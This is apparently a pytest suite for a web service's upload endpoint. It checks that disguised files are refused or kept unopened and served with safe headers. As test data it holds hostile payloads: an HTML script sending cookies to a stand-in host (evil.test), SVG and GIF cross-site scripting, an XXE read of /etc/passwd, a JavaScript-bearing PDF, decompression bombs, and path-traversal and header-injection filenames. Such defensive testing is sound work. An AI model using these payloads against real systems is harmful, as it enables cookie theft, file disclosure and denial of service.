"""Files that are not what they say, and files that grow when they are opened: nothing here opens them."""

import io
import struct
import zipfile
import zlib

import httpx
import pytest

from tests.cast import World
from tests.doctors.applying import PDF, upload

HTML = b"<!doctype html><script>fetch('//evil.test/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
NAMES = [
    "../../../../etc/passwd.pdf",
    "..\\..\\windows\\system32\\x.pdf",
    "/etc/cron.d/x.pdf",
    "x.pdf\0.html",
    "fdp.\u202elmth.exe",
    "x" * 5_000 + ".pdf",
    'x.pdf"; filename="evil.html',
    "x.pdf\r\nX-Odd: 1",
    "",
    ".",
    "CON",
    "\ud800.pdf".encode("utf-8", "surrogatepass").decode("latin-1"),
]


def png(width: int, height: int, pixels: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(pixels, 9)) + chunk(b"IEND", b"")
    )


def bomb_of_pdf() -> bytes:
    """20 KB that unpack to 20 MB."""
    stream = zlib.compress(b"\0" * 20_000_000, 9)
    head = b"%%PDF-1.7\n1 0 obj<</Length %d/Filter/FlateDecode>>stream\n" % len(stream)
    return head + stream + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def bomb_of_zip() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../x.html", b"\0" * 20_000_000)
    return packed.getvalue()


REFUSED = {
    "HTML": HTML,
    "SVG": SVG,
    "SVG after a mark": b"\xef\xbb\xbf" + SVG,
    "XML that names a file": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "a PDF after HTML": HTML + PDF,
    "a PDF without an end": PDF.replace(b"%%EOF", b"") + b"\0" * 2_000,
    "a zip bomb": bomb_of_zip(),
    "a GIF that is a script": b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//",
    "a program": b"\x7fELF" + b"\0" * 200,
    "a picture of another kind": b"RIFF\0\0\0\0WEBPVP8 ",
}
TAKEN = {
    "a PDF that is HTML as well": b"%PDF-1.7\n" + HTML + b"\n%%EOF",
    "a PDF that is a zip as well": PDF + bomb_of_zip() + b"%%EOF",
    "a PDF with a script": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n%%EOF",
    "a PDF that unpacks to a thousand times its size": bomb_of_pdf(),
    "a picture of 2^31 by 2^31": png(2**31 - 1, 2**31 - 1),
    "a picture that unpacks to a thousand times its size": png(5_000, 5_000, b"\0" * 20_000_000),
    "a JPEG with HTML in its comment": b"\xff\xd8\xff\xfe\x00\x50" + HTML + b"\xff\xd9",
}


@pytest.fixture(scope="module")
async def kavya(a_house: World) -> httpx.AsyncClient:
    client = await a_house.api("kavya")
    assert (await client.put("/me/doctor", json={})).status_code == 200
    return client


@pytest.mark.parametrize("what", REFUSED)
async def test_what_is_none_of_three_kinds_is_refused(kavya: httpx.AsyncClient, what: str) -> None:
    for name in ("x.pdf", "x.jpg", "x.png"):
        answer = await upload(kavya, "identity", REFUSED[what], name)
        assert answer.status_code == 422, answer.text


@pytest.mark.parametrize("what", TAKEN)
async def test_what_passes_for_one_is_kept_unopened_and_only_ever_saved(kavya: httpx.AsyncClient, what: str) -> None:
    kept = await upload(kavya, "identity", TAKEN[what], "page.html")
    assert kept.status_code == 201, kept.text
    answer = await kavya.get(f"/me/doctor/documents/{kept.json()['id']}")
    assert answer.content == TAKEN[what]
    assert answer.headers["content-type"] in ("application/pdf", "image/jpeg", "image/png")
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-security-policy"] == "sandbox; default-src 'none'"


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
async def test_a_name_of_a_file_names_nothing_here(kavya: httpx.AsyncClient, name: str) -> None:
    before = b'--cut\r\nContent-Disposition: form-data; name="kind"\r\n\r\nidentity\r\n--cut\r\n'
    part = b'Content-Disposition: form-data; name="file"; filename="' + name.encode() + b'"\r\n\r\n' + PDF
    sent = {"content-type": "multipart/form-data; boundary=cut"}
    answer = await kavya.post("/me/doctor/documents", content=before + part + b"\r\n--cut--\r\n", headers=sent)
    assert answer.status_code in (201, 400, 422), answer.text
    if answer.status_code == 201:
        got = await kavya.get(f"/me/doctor/documents/{answer.json()['id']}")
        assert got.headers["content-disposition"] == 'attachment; filename="identity.pdf"'
        assert "x-odd" not in got.headers


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "br", "gzip, gzip", "\xff"])
async def test_no_packed_body_is_unpacked(a_house: World, encoding: str) -> None:
    packed = zlib.compress(b" " * 10_000_000, 9, wbits=31)
    sent = {"content-type": "application/json", "content-encoding": encoding.encode("latin-1")}
    answer = await (await a_house.api()).post("/auth/login", content=packed, headers=sent)
    assert answer.status_code in (400, 413), answer.text


@pytest.mark.parametrize("what", ["a zip bomb", "HTML"])
async def test_what_anybody_may_have_compared_is_not_opened_either(a_house: World, what: str) -> None:
    web = await a_house.web()
    answer = await web.post("/verify/asha-0000-0000-0000-0000", files={"document": ("../x.pdf", REFUSED[what])})
    assert answer.status_code == 404
